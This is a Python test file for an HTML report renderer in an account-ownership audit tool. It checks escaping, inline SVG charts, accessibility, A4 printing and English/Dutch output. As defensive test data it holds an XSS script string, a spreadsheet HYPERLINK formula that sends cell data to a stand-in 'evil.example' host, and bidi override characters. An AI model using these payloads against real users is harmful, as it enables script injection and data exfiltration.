"""The HTML report: escaped, self-contained, accessible, printable, with charts, in both languages."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import escape

from audit.reports import ReportFormat, render
from audit.reports.safe import html_user


def html(report) -> str:
    return render(report, ReportFormat.HTML).decode("utf-8")


class Outline(HTMLParser):
    """Collects headings, tags and attributes, so tests check structure, not formatting."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.headings: list[tuple[str, str]] = []
        self._heading: str | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if re.fullmatch(r"h[1-6]", tag):
            self._heading, self._text = tag, []

    def handle_endtag(self, tag):
        if tag == self._heading:
            self.headings.append((tag, " ".join("".join(self._text).split())))
            self._heading = None

    def handle_data(self, data):
        if self._heading:
            self._text.append(data)


def outline(page: str) -> Outline:
    parser = Outline()
    parser.feed(page)
    return parser


# Escaping hostile text


def test_a_script_in_a_display_name_is_shown_as_text_never_run(ownership, build):
    page = html(ownership)
    assert build.SCRIPT not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page.lower()


def test_a_script_in_a_finding_message_and_an_offboarding_name_is_escaped(findings, checklist):
    for page in (html(findings), html(checklist)):
        assert "<script" not in page.lower()
        assert "&lt;script&gt;" in page


def test_a_formula_in_a_display_name_is_shown_as_plain_text(ownership):
    page = html(ownership)
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;click&#34;)" in page
    assert 'href="http://evil.example' not in page


def test_bidi_controls_are_made_visible_and_cannot_reorder_the_page(ownership):
    page = html(ownership)
    assert "\u202e" not in page and "\u202c" not in page
    assert "[U+202E]" in page and "[U+202C]" in page
    assert "<bdi>DeZonTV</bdi>" in page


@given(st.text())
def test_any_user_text_becomes_one_bdi_with_no_markup_and_no_bidi_control(text):
    out = str(html_user(text))
    assert out.startswith("<bdi>") and out.endswith("</bdi>")
    inner = out[len("<bdi>") : -len("</bdi>")]
    without_marks = re.sub(r'<span class="ctl" title="U\+[0-9A-F]{4,6}">\[U\+[0-9A-F]{4,6}\]</span>', "", inner)
    assert "<" not in without_marks and ">" not in without_marks
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", out)


@given(st.text(alphabet=st.sampled_from('<>&"\'=+-@ab/ \n'), max_size=40))
def test_hostile_display_names_reach_the_page_only_escaped(build, name):
    marked = f"ZZ{name}ZZ"
    report = build.ownership()
    unit = replace(report.units[0], accounts=(build.account(1, "h", "ALO", display_name=marked, custodian=marked),))
    page = html(replace(report, units=(unit,)))
    assert "<script" not in page.lower()
    assert page.count(f"<bdi>{escape(marked)}</bdi>") == 2
    if any(c in name for c in "<>&"):
        assert marked not in page


# Self-contained: nothing loaded, nothing run


@pytest.mark.parametrize("which", ["ownership", "findings", "checklist"])
def test_the_page_loads_no_external_resource_and_runs_no_script(request, which):
    page = html(request.getfixturevalue(which))
    lowered = page.lower()
    assert "<script" not in lowered
    assert not re.search(r"\b(src|href|srcset|xlink:href|action|formaction|poster)\s*=", lowered)
    assert "<link" not in lowered and "<img" not in lowered and "<iframe" not in lowered
    assert "@import" not in lowered and "url(" not in lowered
    for _, attrs in outline(page).tags:
        assert not any(name.startswith("on") for name in attrs), attrs


# Charts


def test_the_charts_are_inline_svg_with_text_alternatives(ownership):
    page = html(ownership)
    svgs = re.findall(r"<svg\b[^>]*>.*?</svg>", page, flags=re.S)
    assert len(svgs) == 3
    for svg in svgs:
        assert 'role="img"' in svg
        assert re.search(r'aria-label="[^"]+"', svg)
        assert re.search(r"<title[^>]*>[^<]+</title>", svg)
        assert "<rect" in svg


def test_the_units_chart_has_a_bar_for_each_unit_sized_by_its_accounts(ownership):
    page = html(ownership)
    chart = re.search(r'<svg[^>]*id="chart-units".*?</svg>', page, flags=re.S).group()
    bars = re.findall(r'<g class="bar" data-unit="([^"]+)">(.*?)</g>', chart, flags=re.S)
    assert [unit for unit, _ in bars] == ["ALO", "WEST", "DEZON", "STAF"]
    rects = {unit: len(re.findall(r"<rect", body)) for unit, body in bars}
    assert rects == {"ALO": 1, "WEST": 2, "DEZON": 1, "STAF": 0}  # one segment per platform used
    widths = {unit: sum(float(w) for w in re.findall(r'<rect[^>]*width="([\d.]+)"', body)) for unit, body in bars}
    assert widths["WEST"] == pytest.approx(2 * widths["ALO"])


def test_the_severity_and_overdue_charts_draw_their_figures(ownership):
    page = html(ownership)
    severity = re.search(r'<svg[^>]*id="chart-severity".*?</svg>', page, flags=re.S).group()
    assert re.findall(r'data-severity="(\w+)"', severity) == ["critical", "high", "medium", "low", "info"]
    overdue = re.search(r'<svg[^>]*id="chart-overdue".*?</svg>', page, flags=re.S).group()
    assert re.findall(r'data-date="([\d-]+)"', overdue) == ["2026-09-01", "2026-10-01", "2026-11-01"]


def test_each_chart_is_followed_by_a_table_with_the_same_figures(ownership):
    page = html(ownership)
    for chart in ("chart-units", "chart-severity", "chart-overdue"):
        assert f'aria-describedby="{chart}-table"' in page
        assert f'<table id="{chart}-table">' in page
    table = re.search(r'<table id="chart-overdue-table">.*?</table>', page, flags=re.S).group()
    assert re.findall(r'<th scope="row">([^<]+)</th><td class="num">(\d+)</td>', table) == [
        ("2026-09-01", "1"),
        ("2026-10-01", "3"),
        ("2026-11-01", "2"),
    ]


def test_hostile_unit_names_are_escaped_inside_the_svg(build):
    report = build.ownership()
    units = (replace(report.units[0], name=build.SCRIPT + build.RLO),) + report.units[1:]
    page = html(replace(report, units=units))
    chart = re.search(r'<svg[^>]*id="chart-units".*?</svg>', page, flags=re.S).group()
    assert "<script" not in chart and "\u202e" not in chart
    assert "&lt;script&gt;" in chart


# Structure, accessibility, print


def test_the_page_has_a_language_a_title_and_headings_per_unit_level(ownership, ownership_nl):
    page = html(ownership)
    assert page.startswith('<!DOCTYPE html>\n<html lang="en">')
    assert '<html lang="nl">' in html(ownership_nl)
    headings = outline(page).headings
    assert headings[0] == ("h1", "Ownership report")
    assert ("h2", "ALO · Aloysius Stichting (organisation)") in headings
    assert ("h3", "WEST · Sector West (sector; ALO › WEST)") in headings
    assert ("h4", "DEZON · Basisschool De Zon (school; ALO › WEST › DEZON)") in headings
    assert ("h3", "STAF · Stafbureau Voorhout (office; ALO › STAF)") in headings


def test_every_table_header_has_a_scope(ownership):
    tags = outline(html(ownership)).tags
    headers = [attrs for tag, attrs in tags if tag == "th"]
    assert headers and all(attrs.get("scope") in ("col", "row") for attrs in headers)


def test_the_page_prints_on_a4_with_a_new_page_per_top_level_unit_and_repeated_headers(ownership):
    page = html(ownership)
    assert re.search(r"@page\s*\{\s*size:\s*A4;\s*margin:", page)
    assert "break-before: page" in page and "page-break-before: always" in page
    assert "thead { display: table-header-group; }" in page
    sections = re.findall(r'<section class="unit( unit-top)?"', page)
    # The units start on a new page after the summary, each sector on its own; a school does not.
    assert sections == [" unit-top", " unit-top", "", " unit-top"]


def test_the_accounts_table_has_every_column_of_the_ownership_report(ownership):
    page = html(ownership)
    table = re.search(r'<table class="accounts">.*?</thead>', page, flags=re.S).group()
    assert re.findall(r'<th scope="col">([^<]+)</th>', table) == [
        "Platform",
        "Handle",
        "Kind",
        "Pillar",
        "Custodian",
        "Backup custodian",
        "Vault reference set",
        "Last handover",
        "Credentials last rotated",
        "Last verified",
        "Open findings",
    ]


def test_an_account_row_shows_custodian_status_vault_flag_dates_and_findings(ownership):
    page = html(ownership)
    row = re.search(r"<tr><td><bdi>x</bdi></td><td><bdi>AloysiusWest</bdi>.*?</tr>", page, flags=re.S).group()
    assert "Kees Jansen" in row and "(left)" in row
    assert "✓ yes" in row
    assert "2025-09-01" in row and "2026-01-10" in row and "2026-03-02" in row
    assert "SM702" in row and "critical" in row
    assert 'class="sev sev-low waived"' in row  # the waived finding is shown struck through
    missing = re.search(r"<tr><td><bdi>youtube</bdi>.*?</tr>", page, flags=re.S).group()
    assert '<span class="missing">none</span>' in missing  # no custodian


def test_the_summary_counts_units_platforms_kinds_and_severities(ownership):
    page = html(ownership)
    assert "4 accounts in 4 units" in page
    assert "3 open findings" in page and "1 waived findings" in page
    for heading in ("Accounts by unit", "Accounts by platform", "Accounts by kind", "Open findings by severity"):
        assert heading in page


def test_the_footer_gives_the_as_of_and_generation_moments(ownership, ownership_nl):
    footer = re.search(r"<footer>.*?</footer>", html(ownership), flags=re.S).group()
    assert "Registry as of 2026-11-24 23:59 UTC" in footer
    assert "Generated at 2026-11-25 08:30 UTC" in footer
    footer_nl = re.search(r"<footer>.*?</footer>", html(ownership_nl), flags=re.S).group()
    assert "Register per 24 november 2026 23:59 UTC" in footer_nl
    assert "Gemaakt op 25 november 2026 08:30 UTC" in footer_nl


# Both languages


def test_dutch_and_english_headings(ownership, ownership_nl):
    english = [text for _, text in outline(html(ownership)).headings]
    dutch = [text for _, text in outline(html(ownership_nl)).headings]
    assert english[:3] == ["Ownership report", "Summary", "Accounts by unit"]
    assert dutch[:3] == ["Eigenaarschapsrapport", "Samenvatting", "Accounts per eenheid"]
    assert "WEST · Sector West (sector; ALO › WEST)" in dutch
    assert "ALO · Aloysius Stichting (organisatie)" in dutch


def test_dutch_tables_and_heading_write_dates_the_dutch_way(ownership_nl):
    page = html(ownership_nl)
    assert "per 24 november 2026" in page
    assert "01-09-2025" in page and "2025-09-01" not in page.replace('data-date="', "")
    assert "(uit dienst)" in page and "✓ ja" in page and "✗ nee" in page


def test_the_findings_report_lists_each_finding_with_its_waiver(findings, build):
    page = html(findings)
    assert outline(page).headings[0] == ("h1", "Findings report")
    assert "yes, waived until 2027-06-30: <bdi>agreed with the board</bdi>" in page
    dutch = html(build.findings("nl"))
    assert outline(dutch).headings[0] == ("h1", "Bevindingenrapport")
    assert "ja, vrijgesteld tot en met 30-06-2027" in dutch


def test_one_offboarding_case_prints_as_a_checklist(checklist, build):
    page = html(checklist)
    headings = outline(page).headings
    assert headings[0] == ("h1", "Offboarding checklist: Pieter van Leeuwen")
    assert ("h2", "Pieter van Leeuwen (10235)") in headings
    assert "Summary" not in [text for _, text in headings]
    assert page.count("☑") == 4 and page.count("☐") == 6
    assert "Password changed by the organisation — done on 2026-11-20" in page
    assert "Fatima El Amrani</bdi> (the backup custodian)" in page
    assert '<span class="missing">none</span> (no one available: choose a receiver)' in page
    dutch = html(build.offboarding("nl"))
    assert "Vertrekchecklist: Pieter van Leeuwen" in dutch
    assert "Wachtwoord gewijzigd door de organisatie — gedaan op 20-11-2026" in dutch
    assert "Datum uit dienst</dt><dd>31 december 2026" in dutch


def test_several_offboarding_cases_get_a_summary_and_a_page_each(build):
    page = html(build.offboarding("en", cases=2))
    assert outline(page).headings[0] == ("h1", "Offboarding report")
    assert "2 cases (1 open), 2 of 2 accounts still to hand over" in page
    assert ".case + .case { break-before: page;" in page


def test_every_platform_of_the_catalogue_has_a_colour_of_its_own():
    from audit.reports.charts import OTHER_COLOUR, PLATFORM_COLOURS
    from registry.platforms import PLATFORMS

    colours = [PLATFORM_COLOURS.get(name) for name in PLATFORMS]
    assert None not in colours and OTHER_COLOUR not in colours
    assert len(set(colours)) == len(colours)


def test_the_units_chart_gives_each_platform_its_colour_and_labels_each_segment(build):
    from benchmarks.reports import synthetic_ownership_report

    page = html(synthetic_ownership_report(300, units=6))
    chart = re.search(r'<svg[^>]*id="chart-units".*?</svg>', page, flags=re.S).group()
    legend = dict(re.findall(r'<rect [^>]*fill="(#[0-9A-Fa-f]{6})"/><text [^>]*>([^<]+)</text>', chart))
    assert len(legend) == 9 and len(set(legend)) == 9  # nine platforms, nine colours
    segments = re.findall(r'<rect [^>]*width="([\d.]+)"[^>]*><title>[^<]*: (\d+)</title></rect>'
                          r'(?:<text class="count"[^>]*>(\d+)</text>)?', chart)
    assert segments
    for width, count, shown in segments:
        assert shown == count or float(width) < 7 * len(count) + 4  # every segment that fits shows its figure
    assert sum(1 for _, count, shown in segments if shown) > len(segments) / 2
